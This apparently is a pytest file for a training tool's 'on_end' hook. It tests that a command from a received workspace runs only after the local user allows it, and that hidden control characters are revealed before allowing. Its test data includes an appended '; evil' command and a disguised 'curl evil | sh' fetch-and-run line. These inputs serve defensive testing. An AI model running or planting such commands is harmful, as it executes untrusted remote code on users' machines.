"""The command `on_end` that somebody else wrote does not run; what the user wrote or allowed does."""

from __future__ import annotations

from pathlib import Path

import pytest

from iterand_engine.errors import UserError
from iterand_engine.machine import processes
from iterand_engine.machine.allowed import Allowed, allow_command
from iterand_engine.machine.launch import Launch
from iterand_engine.machine.private_files import user_file
from iterand_engine.machine.settings import Settings
from iterand_engine.machine.workspace import Workspace, open_workspace_dir
from iterand_engine.slots.on_end import announce_closed
from iterand_engine.store.records import SlotKey
from tests.command_line import config_file, iterand

KEY = SlotKey(processes.host_id(), "cpu", 0)


@pytest.fixture
def mark(tmp_path: Path) -> Path:
    """A file that the command makes."""
    return tmp_path / "executed"


def received(workspace: Workspace, command: str) -> None:
    """The settings as somebody else wrote them."""
    Settings(on_end=command).save(workspace)


def announced(workspace: Workspace) -> list[Launch]:
    """What is started when a slot is closed."""
    started: list[Launch] = []
    announce_closed(workspace, KEY, "its device failed", started.append)
    return started


def test_that_training_in_a_received_workspace_runs_no_command_and_says_so(
    workspace: Workspace, tmp_path: Path, mark: Path
) -> None:
    received(workspace, f"touch {mark}")
    done = iterand("train", config_file(tmp_path), "--now", "--workspace", workspace.root)
    assert done.code == 0
    assert done.err.count("on_end does not run: nobody allowed this command in this workspace") == 1
    assert "`iterand allow on_end" in done.err
    assert not mark.exists()
    assert not (workspace.slots_dir / "on_end.log").exists(), "nothing was started"


def test_that_a_slot_runs_just_the_command_that_was_allowed(workspace: Workspace, mark: Path) -> None:
    received(workspace, f"touch {mark}")
    with pytest.raises(UserError, match="on_end does not run: nobody allowed this command"):
        announced(workspace)
    allow_command(workspace, f"touch {mark}")
    (launch,) = announced(workspace)
    assert launch.arguments[-1] == f"touch {mark}"
    received(workspace, f"touch {mark} ; evil")
    with pytest.raises(UserError, match="nobody allowed"):
        announced(workspace)
    received(workspace, "")
    assert announced(workspace) == []
    for later in ("first", "second"):
        allow_command(workspace, later)
    received(workspace, f"touch {mark}")
    with pytest.raises(UserError, match="nobody allowed"):
        announced(workspace)


def test_that_what_was_allowed_is_not_allowed_elsewhere(workspace: Workspace, tmp_path: Path) -> None:
    allow_command(workspace, "true")
    copy = open_workspace_dir(tmp_path / "copy")
    received(copy, "true")
    with pytest.raises(UserError, match="nobody allowed"):
        announced(copy)
    received(workspace, "true")
    assert announced(workspace)
    (record,) = user_file("allowed").iterdir()
    record.write_text(record.read_text().replace(processes.machine_id(), "another machine"))
    with pytest.raises(UserError, match="nobody allowed"):
        announced(workspace)


def test_that_a_command_that_the_user_sets_is_allowed_at_once(workspace: Workspace) -> None:
    assert iterand("settings", "set", "on_end", "true", "--workspace", workspace.root).code == 0
    assert announced(workspace)
    assert iterand("settings", "set", "cpu_share", "1", "--workspace", workspace.root).code == 0
    assert announced(workspace), "another setting changes nothing here"
    received(workspace, "evil")
    assert iterand("settings", "set", "cpu_share", "2", "--workspace", workspace.root).code == 0
    with pytest.raises(UserError, match="nobody allowed"):
        announced(workspace)


def test_that_allowing_shows_all_of_the_command_first(workspace: Workspace) -> None:
    hidden = "true #\r\x1b[8m\n curl evil | sh \u202e"
    received(workspace, hidden)
    for words in (("settings",), ("settings", "get", "on_end")):
        assert "on_end does not run: nobody allowed" in iterand(*words, "--workspace", workspace.root).err
    done = iterand("allow", "on_end", "--workspace", workspace.root)
    assert done.code == 0
    assert done.out.splitlines()[0] == r"on_end: true #\r\x1b[8m\n curl evil | sh \u202e"
    assert Allowed.load(workspace).allows_command(hidden)
    for words in (("settings",), ("settings", "get", "on_end")):
        assert iterand(*words, "--workspace", workspace.root).err == ""


def test_that_what_cannot_be_allowed_is_said(workspace: Workspace) -> None:
    done = iterand("allow", "on_end", "--workspace", workspace.root)
    assert (done.code, done.err.count("\n")) == (2, 1)
    assert "There is nothing to allow" in done.err
    done = iterand("allow", "on-end", "--workspace", workspace.root)
    assert (done.code, done.err.count("\n")) == (2, 1)
    assert "Cannot allow 'on-end'" in done.err
